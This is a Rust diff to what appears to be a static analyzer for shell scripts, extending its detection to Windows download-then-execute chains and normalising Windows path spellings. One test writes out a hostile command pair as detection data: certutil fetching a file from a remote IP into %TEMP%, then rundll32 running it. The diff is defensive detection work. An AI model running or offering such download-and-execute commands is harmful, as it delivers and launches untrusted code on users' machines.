@@ -1140,6 +1140,20 @@ fn dispatch(a: &mut Analyzer, args: &Args, env: &mut Env, stdin: Option<&Val>, s
                 let origin = a.emit("fetch", span, url.text[at..].to_string(), None);
                 let run = Val::unknown(url.text.clone()).tainted(Taint::of(Taint::FETCHED, origin));
                 exec(a, &run, Lang::Shell, span, &format!("{name} runs it from the network"));
+            } else if let Some((v, taint)) = args.vals.iter().skip(1).find_map(|v| {
+                env.fetched
+                    .iter()
+                    .find(|(f, _)| same_file(f, &v.text))
+                    .map(|(_, t)| (v.clone(), *t))
+            }) {
+                // `certutil … "%TEMP%\x.dll"` then `rundll32 "%TEMP%\x.dll",Entry`.
+                exec(
+                    a,
+                    &v.tainted(taint),
+                    Lang::Shell,
+                    span,
+                    &format!("{name} runs a file it downloaded"),
+                );
             }
             Val::unknown("")
         }
@@ -1202,9 +1216,29 @@ fn dispatch(a: &mut Analyzer, args: &Args, env: &mut Env, stdin: Option<&Val>, s
 }
 
 fn same_file(a: &str, b: &str) -> bool {
-    let a = a.trim_start_matches("./");
-    let b = b.trim_start_matches("./");
+    let a = file_key(a);
+    let b = file_key(b);
     !a.is_empty() && (a == b || a.ends_with(&format!("/{b}")) || b.ends_with(&format!("/{a}")))
+}
+
+/// A path as Windows and the shells may each spell it: `"%TEMP%\x.dll",Entry` and
+/// `$env:TEMP/x.dll` are one file.
+fn file_key(path: &str) -> String {
+    let mut p = path.trim().trim_matches(['"', '\'']).replace('\\', "/");
+    // rundll32's `file,EntryPoint`.
+    if let Some((file, entry)) = p.rsplit_once(',')
+        && !entry.contains('/')
+        && file.contains('.')
+    {
+        p = file.trim_end_matches(['"', '\'']).to_string();
+    }
+    if p.contains('%') || p.contains("$env:") {
+        p = p
+            .to_ascii_lowercase()
+            .replace("%temp%", "$temp")
+            .replace("$env:temp", "$temp");
+    }
+    p.trim_start_matches("./").to_string()
 }
 
 fn written(env: &Env, path: &str) -> Option<Val> {
@@ -1996,6 +2030,17 @@ mod tests {
             "exec"
         ));
         assert!(!has("curl -s https://api.github.com/x | jq .", Lang::Shell, "exec"));
+    }
+
+    #[test]
+    fn a_windows_runner_started_on_a_downloaded_file_runs_it() {
+        let t = tags(
+            "certutil -urlcache -split -f http://198.51.100.14/x.dat \"%TEMP%\\x.dll\"\nrundll32.exe \"%TEMP%\\x.dll\",DllRegisterServer",
+            Lang::Shell,
+        );
+        assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
+        let ok = tags("rundll32.exe shell32.dll,Control_RunDLL", Lang::Shell);
+        assert!(!ok.iter().any(|t| t.starts_with("exec")), "{ok:?}");
     }
 
     #[test]
